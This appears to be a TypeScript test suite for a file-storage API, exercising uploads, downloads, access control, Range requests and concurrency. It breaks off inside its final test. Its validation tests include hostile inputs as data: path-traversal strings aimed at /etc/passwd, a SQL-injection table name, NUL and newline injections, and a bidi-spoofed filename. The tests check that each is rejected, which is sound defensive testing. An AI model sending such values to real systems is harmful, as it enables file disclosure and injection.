// The file storage suite, run once per backend (files-disk.test.ts, files-s3.test.ts): every
// test drives the real stack over HTTP and checks what a user observes (status, body, bytes)
// plus what is left in the byte store (no orphans).
import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
import { createHash, randomBytes } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startS3rver, startStack, type Stack, type TestUser } from './harness.ts';

const MiB = 1024 * 1024;

/** Where the stack keeps bytes, as the test sees them (independently of the sidecar). */
export interface BackendUnderTest {
  name: 'disk' | 's3';
  env: Record<string, string>;
  /** Keys of every stored object, including partial writes. */
  storedKeys(stack: Stack): Promise<string[]>;
  /** Damages a stored object behind Plinth's back: only its first `size` bytes are left. */
  shorten(stack: Stack, key: string, size: number): Promise<void>;
  stop(): Promise<void>;
}

export function diskBackend(): BackendUnderTest {
  const walk = (dir: string): string[] =>
    fs.existsSync(dir)
      ? fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(path.join(dir, e.name)) : [path.join(dir, e.name)]))
      : [];
  return {
    name: 'disk',
    env: {},
    async storedKeys(stack) {
      return walk(path.join(stack.dataDir, 'storage')).map((f) => path.basename(f));
    },
    async shorten(stack, key, size) {
      fs.truncateSync(walk(path.join(stack.dataDir, 'storage')).find((f) => path.basename(f) === key)!, size);
    },
    async stop() {},
  };
}

export async function s3Backend(): Promise<BackendUnderTest> {
  const peer = await startS3rver();
  return {
    name: 's3',
    env: peer.env,
    async storedKeys() {
      const keys: string[] = [];
      let token: string | undefined;
      do {
        const page = await peer.client.send(new ListObjectsV2Command({ Bucket: peer.bucket, ContinuationToken: token }));
        keys.push(...(page.Contents ?? []).map((o) => o.Key!));
        token = page.NextContinuationToken;
      } while (token);
      return keys;
    },
    async shorten(_stack, key, size) {
      const { Body } = await peer.client.send(new GetObjectCommand({ Bucket: peer.bucket, Key: key }));
      const bytes = Buffer.from(await Body!.transformToByteArray());
      await peer.client.send(new PutObjectCommand({ Bucket: peer.bucket, Key: key, Body: bytes.subarray(0, size) }));
    },
    stop: () => peer.stop(),
  };
}

const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

async function eventually<T>(read: () => Promise<T>, ok: (v: T) => boolean, what: string, seconds = 30): Promise<T> {
  const deadline = Date.now() + seconds * 1000;
  for (;;) {
    const v = await read();
    if (ok(v)) return v;
    if (Date.now() > deadline) throw new Error(`${what}: still ${JSON.stringify(v)} after ${seconds} s`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** Chunks of a deterministic pattern, generated on demand (never the whole file in memory). */
function generated(total: number, chunk = MiB, pauseAfter?: { bytes: number; until: Promise<void> }) {
  const block = randomBytes(chunk);
  let sent = 0;
  let n = 0;
  const hash = createHash('sha256');
  const stream = new ReadableStream<Uint8Array>({
    async pull(controller) {
      if (pauseAfter && sent >= pauseAfter.bytes) await pauseAfter.until;
      if (sent >= total) return controller.close();
      const size = Math.min(chunk, total - sent);
      const out = Buffer.from(block.subarray(0, size));
      out.writeUInt32BE(n++ >>> 0, 0); // every chunk differs
      hash.update(out);
      sent += size;
      controller.enqueue(out);
    },
  });
  return { stream, digest: () => hash.digest('hex'), sent: () => sent };
}

async function digestOf(res: Response): Promise<{ sha: string; size: number }> {
  const hash = createHash('sha256');
  let size = 0;
  for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
    hash.update(chunk);
    size += chunk.length;
  }
  return { sha: hash.digest('hex'), size };
}

function rssBytes(pid: number): number {
  const m = /VmRSS:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'));
  return Number(m![1]) * 1024;
}

/** `big`: the size of the generated round trip whose sidecar memory is measured (0: skip). */
export const GiB = 1024 * MiB;

export function fileSuite(makeBackend: () => Promise<BackendUnderTest>, opts: { big?: number } = {}) {
  let backend: BackendUnderTest;
  let stack: Stack;
  let alice: TestUser;
  let bob: TestUser;
  let admin: TestUser;

  beforeAll(async () => {
    backend = await makeBackend();
    stack = await startStack({ env: { ...backend.env, PLINTH_MAX_FILE_SIZE: '2GiB' } });
    alice = await stack.createUser();
    bob = await stack.createUser();
    admin = await stack.createUser({ app_role: 'admin' });
  });
  afterAll(async () => {
    await stack?.destroy();
    await backend?.stop();
  });

  const store = (token: string | undefined, filePath: string, body: BodyInit | Uint8Array | null, headers: Record<string, string> = {}) =>
    stack.fetch('/rpc/store_file', {
      method: 'POST',
      token,
      body: body as BodyInit,
      headers: { 'content-type': 'application/octet-stream', 'file-path': encodeURIComponent(filePath).replaceAll('%2F', '/'), ...headers },
      ...(body instanceof ReadableStream ? { duplex: 'half' } : {}),
    } as RequestInit);
  const retrieve = (token: string | undefined, filePath: string, headers: Record<string, string> = {}) =>
    stack.fetch(`/rpc/retrieve_file?p_file_path=${encodeURIComponent(filePath)}`, { token, headers });
  const objectRows = async () => (await stack.sql<{ n: number }[]>`select count(*)::int as n from storage.blobs`)[0].n;
  /**
   * Objects in the store vs. committed versions in the database: equal once nothing is orphaned,
   * and nothing still queued for deletion (a replaced or deleted version's bytes go in the
   * background, so a count taken before that would change under the test).
   */
  const settled = async () => {
    const ready = async () => (await stack.sql<{ n: number }[]>`select count(*)::int as n from storage.blobs where state = 'ready'`)[0].n;
    const queued = async () => (await stack.sql<{ n: number }[]>`select count(*)::int as n from storage.deletions`)[0].n;
    return eventually(
      async () => ({ stored: (await backend.storedKeys(stack)).length, rows: await objectRows(), ready: await ready(), queued: await queued() }),
      (v) => v.stored === v.rows && v.rows === v.ready && v.queued === 0,
      'stored objects vs rows',
    );
  };

  describe('store_file and retrieve_file', () => {
    test.each([
      ['empty.bin', 0],
      ['one.bin', 1],
      ['folder/five-mib.bin', 5 * MiB],
    ])('%s (%i bytes) round-trips byte for byte', async (name, size) => {
      const bytes = randomBytes(size);
      const res = await store(alice.token, name, bytes, { 'file-content-type': 'application/x-test', description: 'a test file' });
      expect(res.status).toBe(200);
      const id = await res.json();
      expect(id).toMatch(/^[0-9a-f-]{36}$/);
      const got = await retrieve(alice.token, name);
      expect(got.status).toBe(200);
      expect(got.headers.get('content-type')).toBe('application/x-test');
      expect(got.headers.get('content-length')).toBe(String(size));
      expect(got.headers.get('etag')).toBe(`"${sha256(bytes)}"`);
      expect(got.headers.get('content-disposition')).toBe(`attachment; filename="${path.basename(name)}"; filename*=UTF-8''${path.basename(name)}`);
      expect(Buffer.from(await got.arrayBuffer()).equals(bytes)).toBe(true);
      const [row] = await (await stack.fetch(`/files?path=eq.${encodeURIComponent(name)}`, { token: alice.token })).json();
      expect(row).toMatchObject({ id, path: name, description: 'a test file', size, content_type: 'application/x-test', sha256: sha256(bytes), owner_id: alice.id });
    });

    test('a chunked body in odd pieces is stored byte for byte, with its SHA-256', async () => {
      const bytes = randomBytes(7 * MiB + 3);
      let at = 0;
      const body = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (at >= bytes.length) return controller.close();
          controller.enqueue(bytes.subarray(at, (at += 70001)));
        },
      });
      const res = await store(alice.token, 'chunked/odd.bin', body);
      expect(res.status).toBe(200);
      const got = await retrieve(alice.token, 'chunked/odd.bin');
      expect(got.headers.get('etag')).toBe(`"${sha256(bytes)}"`);
      expect(Buffer.from(await got.arrayBuffer()).equals(bytes)).toBe(true);
      const [row] = await (await stack.fetch('/files?path=eq.chunked/odd.bin&select=sha256,size', { token: alice.token })).json();
      expect(row).toEqual({ sha256: sha256(bytes), size: bytes.length });
    });

    test('the same path again overwrites the bytes and keeps the uuid; the old bytes are removed', async () => {
      const first = await (await store(alice.token, 'notes/overwrite.txt', 'version 1')).json();
      const second = await store(alice.token, 'notes/overwrite.txt', 'version 2, longer');
      expect(second.status).toBe(200);
      expect(await second.json()).toBe(first);
      expect(await (await retrieve(alice.token, 'notes/overwrite.txt')).text()).toBe('version 2, longer');
      const [row] = await (await stack.fetch('/files?path=eq.notes/overwrite.txt', { token: alice.token })).json();
      expect(row).toMatchObject({ id: first, size: 17, content_type: 'application/octet-stream' });
      await settled();
    });

    test('a non-ASCII path travels percent-encoded and comes back exactly; non-UTF-8 bytes are refused', async () => {
      const name = 'données/résumé 日本語 ✓ 100%.bin';
      const bytes = randomBytes(1000);
      const res = await store(alice.token, name, bytes);
      expect(res.status).toBe(200);
      const got = await retrieve(alice.token, name);
      expect(got.status).toBe(200);
      expect(Buffer.from(await got.arrayBuffer()).equals(bytes)).toBe(true);
      expect(got.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent('résumé 日本語 ✓ 100%.bin')}`);
      const rows = await (await stack.fetch(`/files?path=eq.${encodeURIComponent(name)}`, { token: alice.token })).json();
      expect(rows).toHaveLength(1);
      // %FF%FE is not UTF-8: refused, nothing stored.
      await settled(); // earlier tests' background deletes must not change the count under this one
      const before = await objectRows();
      const bad = await stack.fetch('/rpc/store_file', { method: 'POST', token: alice.token, body: 'x', headers: { 'file-path': 'bad%FF%FE.bin' } });
      expect(bad.status).toBe(400);
      expect((await bad.json()).message).toMatch(/UTF-8/);
      expect(await objectRows()).toBe(before);
    });

    test('look-alike paths: café stored as NFD is the same file as café in NFC; bidi and zero-width characters → 400', async () => {
      const nfd = 'accents/cafe\u0301.txt';
      const nfc = 'accents/caf\u00e9.txt';
      const first = await store(alice.token, nfd, 'typed with a combining accent');
      expect(first.status).toBe(200);
      const id = await first.json();
      const got = await retrieve(alice.token, nfc);
      expect(got.status).toBe(200);
      expect(await got.text()).toBe('typed with a combining accent');
      const again = await store(alice.token, nfc, 'typed precomposed');
      expect(await again.json()).toBe(id);
      expect(await (await retrieve(alice.token, nfd)).text()).toBe('typed precomposed');
      const rows = await (await stack.fetch(`/files?path=like.accents/*`, { token: alice.token })).json();
      expect(rows.map((r: { path: string }) => r.path)).toEqual([nfc]);

      // The overwritten version's bytes are removed in the background; count once that is done.
      await settled();
      const before = await objectRows();
      for (const sneaky of ['invoice\u202Efdp.exe', 'a\u200Bb.txt', 'x\u2066y', 'bom\uFEFF.txt', 'rl\u200Fm', 'arabic\u061Cmark']) {
        const res = await store(alice.token, sneaky, 'x');
        expect(res.status).toBe(400);
        expect((await res.json()).message).toMatch(/File-Path: the file path contains an? (bidirectional control|invisible) character \(U\+[0-9A-F]{4}/);
      }
      expect(await objectRows()).toBe(before);
    });

    test('a missing or invalid token gets 401; the anon key cannot store or retrieve', async () => {
      expect((await store(undefined, 'x.txt', 'x')).status).toBe(401);
      expect((await store('not-a-token', 'x.txt', 'x')).status).toBe(401);
      expect((await retrieve(undefined, 'x.txt')).status).toBe(401);
      expect((await retrieve('not-a-token', 'x.txt')).status).toBe(401);
      const anonStore = await stack.fetch('/rpc/store_file', { method: 'POST', apikey: stack.anonKey, body: 'x', headers: { 'file-path': 'x.txt' } });
      expect(anonStore.status).toBe(401);
      expect((await stack.fetch('/rpc/retrieve_file?p_file_path=x.txt', { apikey: stack.anonKey })).status).toBe(401);
    });

    test('absent file → 400 {"message":"File not found."}', async () => {
      const res = await retrieve(alice.token, 'no/such/file');
      expect(res.status).toBe(400);
      expect(await res.text()).toBe('{"message":"File not found."}');
    });
  });

  describe('who sees what', () => {
    test('two users and an admin: own rows only, admin lists all but downloads only their own', async () => {
      await store(alice.token, 'rls/alice.txt', 'alice secret');
      await store(bob.token, 'rls/bob.txt', 'bob secret');
      await store(admin.token, 'rls/admin.txt', 'admin file');
      const paths = async (t: string) =>
        ((await (await stack.fetch('/files?path=like.rls/*&order=path', { token: t })).json()) as { path: string }[]).map((r) => r.path);
      expect(await paths(alice.token)).toEqual(['rls/alice.txt']);
      expect(await paths(bob.token)).toEqual(['rls/bob.txt']);
      expect(await paths(admin.token)).toEqual(['rls/admin.txt', 'rls/alice.txt', 'rls/bob.txt']);

      for (const [who, p] of [[bob, 'rls/alice.txt'], [admin, 'rls/alice.txt'], [alice, 'rls/bob.txt']] as const) {
        const res = await retrieve(who.token, p);
        expect(res.status).toBe(400);
        expect(await res.json()).toEqual({ message: 'File not found.' });
      }
      expect(await (await retrieve(admin.token, 'rls/admin.txt')).text()).toBe('admin file');

      // Same path, different owners: two files.
      await store(bob.token, 'rls/alice.txt', 'bob has the same path');
      expect(await (await retrieve(alice.token, 'rls/alice.txt')).text()).toBe('alice secret');
      expect(await (await retrieve(bob.token, 'rls/alice.txt')).text()).toBe('bob has the same path');

      // Bob's and the admin's deletes of Alice's file delete nothing.
      for (const who of [bob, admin]) {
        const del = await stack.fetch('/files?path=eq.rls/alice.txt&owner_id=eq.' + alice.id, { method: 'DELETE', token: who.token, headers: { prefer: 'return=representation' } });
        expect(del.status).toBe(200);
        expect(await del.json()).toEqual([]);
      }
      expect(await (await retrieve(alice.token, 'rls/alice.txt')).text()).toBe('alice secret');
      // Rows are only made by store_file; the description can be edited.
      const insert = await stack.fetch('/files', { method: 'POST', token: alice.token, json: { path: 'forged', size: 1, content_type: 'x', sha256: 'x' } });
      expect(insert.status).toBe(403);
      const patch = await stack.fetch('/files?path=eq.rls/alice.txt', { method: 'PATCH', token: alice.token, json: { description: 'edited' }, headers: { prefer: 'return=representation' } });
      expect((await patch.json())[0].description).toBe('edited');
    });

    test('DELETE /files removes the row and, after commit, the bytes', async () => {
      await store(alice.token, 'to-delete/a.bin', randomBytes(1000));
      await settled();
      const keysBefore = (await backend.storedKeys(stack)).length;
      const del = await stack.fetch('/files?path=eq.to-delete/a.bin', { method: 'DELETE', token: alice.token, headers: { prefer: 'return=representation' } });
      expect(del.status).toBe(200);
      expect(await del.json()).toHaveLength(1);
      const res = await retrieve(alice.token, 'to-delete/a.bin');
      expect(res.status).toBe(400);
      await eventually(async () => (await backend.storedKeys(stack)).length, (n) => n === keysBefore - 1, 'bytes of the deleted file');
      await settled();
    });
  });

  describe('bad input is refused before any byte is stored', () => {
    const bad: Array<[string, string]> = [
      ['parent segment', '../etc/passwd'],
      ['inner parent segment', 'a/../../b'],
      ['dot segment', 'a/./b'],
      ['absolute', '/etc/passwd'],
      ['backslash', 'a\\..\\b'],
      ['NUL', 'a%00b'],
      ['newline', 'a%0Ab'],
      ['tab', 'a%09b'],
      ['DEL', 'a%7Fb'],
      ['empty segment', 'a//b'],
      ['trailing slash', 'a/b/'],
      ['lone dot', '.'],
      ['over 1024 bytes', 'x'.repeat(1025)],
      ['over 1024 bytes in UTF-8', encodeURIComponent('é'.repeat(513))],
      ['broken percent escape', 'a%2'],
      ['drive letter', 'C:%5Cwindows'],
    ];
    test.each(bad)('File-Path with %s → 400', async (_what, raw) => {
      await settled(); // earlier tests' background deletes must not change the count under this one
      const before = await objectRows();
      const res = await stack.fetch('/rpc/store_file', { method: 'POST', token: alice.token, body: randomBytes(100), headers: { 'file-path': raw } });
      expect(res.status).toBe(400);
      expect(await res.json()).toMatchObject({ code: expect.any(String), message: expect.stringMatching(/File-Path/) });
      expect(await objectRows()).toBe(before);
    });

    test('a 1024-byte path is accepted', async () => {
      const res = await store(alice.token, `${'d/'.repeat(100)}${'y'.repeat(824)}`, 'ok');
      expect(res.status).toBe(200);
    });

    test('traversal in p_file_path → 400; missing File-Path → 400; bad File-Content-Type → 400', async () => {
      expect((await retrieve(alice.token, '../../etc/passwd')).status).toBe(400);
      expect((await stack.fetch('/rpc/retrieve_file', { token: alice.token })).status).toBe(400);
      await settled(); // earlier tests' background deletes must not change the count under this one
      const before = await objectRows();
      const noPath = await stack.fetch('/rpc/store_file', { method: 'POST', token: alice.token, body: 'x' });
      expect(noPath.status).toBe(400);
      expect((await noPath.json()).message).toMatch(/file-path/i);
      const badType = await store(alice.token, 'typed.txt', 'x', { 'file-content-type': 'not a type' });
      expect(badType.status).toBe(400);
      expect(await objectRows()).toBe(before);
    });
  });

  describe('Range and ETag', () => {
    let bytes: Buffer;
    beforeAll(async () => {
      bytes = randomBytes(10_000);
      expect((await store(alice.token, 'range/file.bin', bytes)).status).toBe(200);
    });

    test.each([
      ['bytes=10-19', 10, 19],
      ['bytes=9990-', 9990, 9999],
      ['bytes=-100', 9900, 9999],
      ['bytes=9000-20000', 9000, 9999],
    ])('Range %s → 206 with exactly those bytes', async (range, start, end) => {
      const res = await retrieve(alice.token, 'range/file.bin', { range });
      expect(res.status).toBe(206);
      expect(res.headers.get('content-range')).toBe(`bytes ${start}-${end}/10000`);
      expect(res.headers.get('content-length')).toBe(String(end - start + 1));
      expect(Buffer.from(await res.arrayBuffer()).equals(bytes.subarray(start, end + 1))).toBe(true);
    });

    test('an unsatisfiable range → 416; several ranges → the whole file', async () => {
      const res = await retrieve(alice.token, 'range/file.bin', { range: 'bytes=10000-' });
      expect(res.status).toBe(416);
      expect(res.headers.get('content-range')).toBe('bytes */10000');
      const multi = await retrieve(alice.token, 'range/file.bin', { range: 'bytes=0-1,5-6' });
      expect(multi.status).toBe(200);
      expect(Buffer.from(await multi.arrayBuffer()).equals(bytes)).toBe(true);
    });

    test('If-None-Match with the ETag → 304; a stale ETag or If-Range → full 200', async () => {
      const etag = `"${sha256(bytes)}"`;
      const same = await retrieve(alice.token, 'range/file.bin', { 'if-none-match': etag });
      expect(same.status).toBe(304);
      expect(same.headers.get('etag')).toBe(etag);
      expect(await same.text()).toBe('');
      const stale = await retrieve(alice.token, 'range/file.bin', { 'if-none-match': '"0000"' });
      expect(stale.status).toBe(200);
      const staleRange = await retrieve(alice.token, 'range/file.bin', { range: 'bytes=0-9', 'if-range': '"0000"' });
      expect(staleRange.status).toBe(200);
      expect((await staleRange.arrayBuffer()).byteLength).toBe(10_000);
    });
  });

  describe('concurrency', () => {
    test('concurrent uploads of one path by one owner: one complete version, same uuid, no 500, no orphan', async () => {
      const bodies = Array.from({ length: 6 }, (_, i) => Buffer.concat([Buffer.from(`version ${i}:`), randomBytes(256 * 1024)]));
      const results = await Promise.all(bodies.map((b) => store(bob.token, 'race/same.bin', b)));
      const statuses = results.map((r) => r.status);
      expect(statuses.every((s) => s === 200)).toBe(true);
      const ids = new Set(await Promise.all(results.map((r) => r.json())));
      expect(ids.size).toBe(1);
      const got = Buffer.from(await (await retrieve(bob.token, 'race/same.bin')).arrayBuffer());
      expect(bodies.some((b) => b.equals(got))).toBe(true);
      const [row] = await (await stack.fetch('/files?path=eq.race/same.bin', { token: bob.token })).json();
      expect(row.sha256).toBe(sha256(got));
      await settled();
    });
  });

  describe('readers during overwrites', () => {
    test('every read returns one whole version, never a mix or an error', async () => {
      const versions = Array.from({ length: 6 }, () => randomBytes(200 * 1024));
      expect((await store(bob.token, 'race/read.bin', versions[0])).status).toBe(200);
      const known = new Set(versions.map(sha256));
      const reads: Promise<string>[] = [];
      const writes = (async () => {
        for (const v of versions.slice(1)) expect((await store(bob.token, 'race/read.bin', v)).status).toBe(200);
      })();
      for (let i = 0; i < 24; i++) {
        reads.push(
          retrieve(bob.token, 'race/read.bin').then(async (r) => {
            expect(r.status).toBe(200);
            return sha256(Buffer.from(await r.arrayBuffer()));
          }),
        );
        await new Promise((r) => setTimeout(r, 15));
      }
      await writes;
      for (const digest of await Promise.all(reads)) expect(known.has(digest)).toBe(true);
      expect(sha256(Buffer.from(await (await retrieve(bob.token, 'race/read.bin')).arrayBuffer()))).toBe(sha256(versions[5]));
    });
  });

  describe('downloads at once', () => {
    /** Stored objects the sidecar holds open (disk: files under objects/). */
    const openObjects = () =>
      fs.readdirSync(`/proc/${stack.proc.pid}/fd`).filter((fd) => {
        try {
          return fs.readlinkSync(`/proc/${stack.proc.pid}/fd/${fd}`).includes(`${path.sep}objects${path.sep}`);
        } catch {
          return false; // closed while listed
        }
      }).length;

    test('whole files and ranges of two files, sixteen at once, are byte-exact; HEAD sends headers only; clients that leave mid-download leave no file open', async () => {
      const files = { 'par/a.bin': randomBytes(3 * MiB + 123), 'par/b.bin': randomBytes(3 * MiB + 4567) };
      for (const [name, bytes] of Object.entries(files)) expect((await store(alice.token, name, bytes)).status).toBe(200);
      const downloads = Array.from({ length: 16 }, async (_, i) => {
        const [name, bytes] = Object.entries(files)[i % 2];
        // Ranges that start and end inside a read, and span several.
        const start = i * 37_001;
        const end = bytes.length - 1 - i * 51_003;
        const res = await retrieve(alice.token, name, i % 4 < 2 ? {} : { range: `bytes=${start}-${end}` });
        const body = Buffer.from(await res.arrayBuffer());
        return { status: res.status, same: body.equals(i % 4 < 2 ? bytes : bytes.subarray(start, end + 1)) };
      });
      const results = await Promise.all(downloads);
      expect(results.map((r) => r.status)).toEqual(Array.from({ length: 16 }, (_, i) => (i % 4 < 2 ? 200 : 206)));
      expect(results.every((r) => r.same)).toBe(true);

      // Eight clients read the first bytes of the big file, then go away.
      const big = randomBytes(64 * MiB);
      expect((await store(alice.token, 'par/big.bin', big)).status).toBe(200);
      await Promise.all(
        Array.from({ length: 8 }, async () => {
          const reader = (await retrieve(alice.token, 'par/big.bin')).body!.getReader();
          expect((await reader.read()).done).toBe(false);
          await reader.cancel();
        }),
      );
      // HEAD: the headers of the whole file or the range, no body.
      const head = await stack.fetch(`/rpc/retrieve_file?p_file_path=par%2Fbig.bin`, { method: 'HEAD', token: alice.token, redirect: 'manual' });
      expect([head.status, head.headers.get('content-length'), head.headers.get('etag')]).toEqual([200, String(big.length), `"${sha256(big)}"`]);
      expect((await head.arrayBuffer()).byteLength).toBe(0);
      const headRange = await stack.fetch(`/rpc/retrieve_file?p_file_path=par%2Fbig.bin`, { method: 'HEAD', token: alice.token, headers: { range: 'bytes=10-19' } });
      expect([headRange.status, headRange.headers.get('content-length'), headRange.headers.get('content-range')]).toEqual([206, '10', `bytes 10-19/${big.length}`]);
      if (backend.name === 'disk') await eventually(async () => openObjects(), (n) => n === 0, 'downloaded files closed');
      // The server goes on serving exact bytes.
      const again = await retrieve(alice.token, 'par/big.bin');
      expect(again.status).toBe(200);
      expect(Buffer.from(await again.arrayBuffer()).equals(big)).toBe(true);
      if (backend.name === 'disk') expect(openObjects()).toBe(0);
    });
  });

  test('a stored file found shorter than recorded cuts the download instead of leaving it hanging, and the log says so', async () => {
    const before = new Set(await backend.storedKeys(stack));
    const bytes = randomBytes(2 * MiB);
    expect((await store(alice.token, 'cut/short.bin', bytes)).status).toBe(200);
    const [key] = (await backend.storedKeys(stack)).filter((k) => !before.has(k));
    await backend.shorten(stack, key, MiB + 5);
    for (const headers of [{}, { range: `bytes=100-${2 * MiB - 1}` }] as Record<string, string>[]) {
      const res = await retrieve(alice.token, 'cut/short.bin', headers);
      expect(res.headers.get('content-length')).toBe(String(2 * MiB - (headers.range ? 100 : 0)));
      await expect(res.arrayBuffer()).rejects.toThrow();
      const id = res.headers.get('x-request-id')!;
      await eventually(async () => stack.output.split('\n').filter((l) => l.includes(id) && /could not be read to the end/.test(l)).length, (n) => n === 1, 'the log line');
    }
  });

  describe('entity-linked storage', () => {
    /** The form as the contract wants it: entity, then metadata, then file (last). */
    const upload = (auth: { token?: string; apikey?: string }, entity: unknown, name: string, bytes: Uint8Array, opts: { fileFirst?: boolean; metadata?: unknown; type?: string } = {}) => {
      const form = new FormData();
      const file = new Blob([bytes as Uint8Array<ArrayBuffer>], { type: opts.type ?? 'image/png' });
      if (opts.fileFirst) form.append('file', file, name);
      form.append('entity', JSON.stringify(entity));
      if (opts.metadata !== undefined) form.append('metadata', JSON.stringify(opts.metadata));
      if (!opts.fileFirst) form.append('file', file, name);
      return stack.fetch('/storage/upload', { method: 'POST', body: form, ...auth });
    };
    const newTodo = async (user: TestUser) =>
      (await (await stack.fetch('/todos', { method: 'POST', token: user.token, json: { title: 'with attachment' }, headers: { prefer: 'return=representation' } })).json())[0];

    test('the row owner uploads, downloads and deletes; others are refused', async () => {
      const todo = await newTodo(alice);
      const bytes = randomBytes(3000);
      const res = await upload({ token: alice.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'plan.pdf', bytes, { metadata: { pages: 3 }, type: 'application/pdf' });
      expect(res.status).toBe(200);
      expect(await res.json()).toMatchObject({ table: 'todos', id: String(todo.id), field: 'attachment', filename: 'plan.pdf', size: 3000, sha256: sha256(bytes), metadata: { pages: 3 } });
      const [row] = await (await stack.fetch(`/todos?id=eq.${todo.id}`, { token: alice.token })).json();
      expect(row.attachment).toBe('plan.pdf');

      const url = `/storage/download/todos/${todo.id}/attachment/plan.pdf`;
      const deleteUrl = url.replace('/download/', '/delete/');
      const got = await stack.fetch(url, { token: alice.token });
      expect(got.status).toBe(200);
      expect(got.headers.get('content-type')).toBe('application/pdf');
      expect(Buffer.from(await got.arrayBuffer()).equals(bytes)).toBe(true);

      // Bob may not read, replace or delete Alice's attachment; nothing changes.
      expect((await stack.fetch(url, { token: bob.token })).status).toBe(404);
      // anon has no privilege on todos at all: the table is as good as absent to it.
      expect((await stack.fetch(url, { apikey: stack.anonKey })).status).toBe(404);
      await settled(); // earlier tests' background deletes must not change the count under this one
      const before = await objectRows();
      const bobUp = await upload({ token: bob.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'plan.pdf', randomBytes(10));
      expect(bobUp.status).toBe(403);
      expect((await stack.fetch(deleteUrl, { method: 'DELETE', token: bob.token })).status).toBe(403);
      expect(Buffer.from(await (await stack.fetch(url, { token: alice.token })).arrayBuffer()).equals(bytes)).toBe(true);
      await eventually(objectRows, (n) => n === before, 'refused uploads discarded');

      // A wrong filename is not found.
      expect((await stack.fetch(`/storage/download/todos/${todo.id}/attachment/other.pdf`, { token: alice.token })).status).toBe(404);

      // Replace, then delete.
      const v2 = randomBytes(500);
      expect((await upload({ token: alice.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'plan.pdf', v2)).status).toBe(200);
      expect(Buffer.from(await (await stack.fetch(url, { token: alice.token })).arrayBuffer()).equals(v2)).toBe(true);
      const del = await stack.fetch(deleteUrl, { method: 'DELETE', token: alice.token });
      expect(del.status).toBe(204);
      expect((await stack.fetch(deleteUrl, { method: 'DELETE', token: alice.token })).status).toBe(404);
      expect((await stack.fetch(url, { token: alice.token })).status).toBe(404);
      const [after] = await (await stack.fetch(`/todos?id=eq.${todo.id}`, { token: alice.token })).json();
      expect(after.attachment).toBeNull();
      expect(after.title).toBe('with attachment'); // the row itself stays
      await settled();
    });

    test('a published post’s cover downloads with the anon key alone (header or ?apikey=)', async () => {
      const [post] = await (await stack.fetch('/posts', { method: 'POST', token: alice.token, json: { title: 'hello', published: true }, headers: { prefer: 'return=representation' } })).json();
      const [draft] = await (await stack.fetch('/posts', { method: 'POST', token: alice.token, json: { title: 'draft', published: false }, headers: { prefer: 'return=representation' } })).json();
      const png = randomBytes(2000);
      for (const p of [post, draft]) {
        expect((await upload({ token: alice.token }, { table: 'posts', id: String(p.id), field: 'cover' }, 'couverture été ✓.png', png)).status).toBe(200);
      }
      const url = (p: { id: number }) => `/storage/download/posts/${p.id}/cover/${encodeURIComponent('couverture été ✓.png')}`;
      const viaHeader = await stack.fetch(url(post), { apikey: stack.anonKey });
      expect(viaHeader.status).toBe(200);
      expect(viaHeader.headers.get('content-type')).toBe('image/png');
      expect(viaHeader.headers.get('content-disposition')).toBe(`inline; filename="couverture _t_ _.png"; filename*=UTF-8''${encodeURIComponent('couverture été ✓.png')}`);
      const [row] = await (await stack.fetch(`/posts?id=eq.${post.id}`, { apikey: stack.anonKey })).json();
      expect(row.cover).toBe('couverture été ✓.png');
      expect(Buffer.from(await viaHeader.arrayBuffer()).equals(png)).toBe(true);
      const viaQuery = await fetch(`${stack.url}${url(post)}?apikey=${stack.anonKey}`);
      expect(viaQuery.status).toBe(200);
      expect(Buffer.from(await viaQuery.arrayBuffer()).equals(png)).toBe(true);
      // A user token in the URL is refused (it would leak into logs); drafts stay private.
      expect((await fetch(`${stack.url}${url(post)}?apikey=${alice.token}`)).status).toBe(401);
      expect((await stack.fetch(url(draft), { apikey: stack.anonKey })).status).toBe(404);
      expect((await stack.fetch(url(draft), { token: alice.token })).status).toBe(200);
      expect((await stack.fetch(url(draft), { token: bob.token })).status).toBe(404);
      // anon may read posts but has no UPDATE or DELETE grant: 401 (sign in), as PostgREST answers.
      expect((await upload({ apikey: stack.anonKey }, { table: 'posts', id: String(post.id), field: 'cover' }, 'x.png', png)).status).toBe(401);
      expect((await stack.fetch(url(post).replace('/download/', '/delete/'), { method: 'DELETE', apikey: stack.anonKey })).status).toBe(401);
      // Bob is signed in but not the author: RLS refuses the UPDATE and the DELETE.
      expect((await upload({ token: bob.token }, { table: 'posts', id: String(post.id), field: 'cover' }, 'x.png', png)).status).toBe(403);
      expect((await stack.fetch(url(post).replace('/download/', '/delete/'), { method: 'DELETE', token: bob.token })).status).toBe(403);
      expect(Buffer.from(await (await stack.fetch(url(post), { apikey: stack.anonKey })).arrayBuffer()).equals(png)).toBe(true);
    });

    test('unknown tables, columns and malformed forms are refused', async () => {
      const todo = await newTodo(alice);
      await settled(); // earlier tests' background deletes must not change the count under this one
      const before = await objectRows();
      const cases: Array<[unknown, string, number]> = [
        [{ table: 'nope', id: '1', field: 'x' }, 'a.txt', 404],
        [{ table: 'todos', id: String(todo.id), field: 'nope' }, 'a.txt', 400],
        [{ table: 'todos', id: String(todo.id), field: 'done' }, 'a.txt', 400],
        [{ table: 'todos; drop table todos', id: '1', field: 'x' }, 'a.txt', 400],
        [{ table: 'todos', id: 'not-a-number', field: 'attachment' }, 'a.txt', 400],
        [{ table: 'todos', id: String(todo.id), field: 'attachment' }, '..', 400],
        [{ table: 'todos' }, 'a.txt', 400],
      ];
      for (const [entity, name, status] of cases) {
        const res = await upload({ token: alice.token }, entity, name, randomBytes(10));
        expect([JSON.stringify(entity), name, res.status]).toEqual([JSON.stringify(entity), name, status]);
      }
      const noEntity = new FormData();
      noEntity.append('file', new Blob(['x']), 'a.txt');
      expect((await stack.fetch('/storage/upload', { method: 'POST', token: alice.token, body: noEntity })).status).toBe(400);
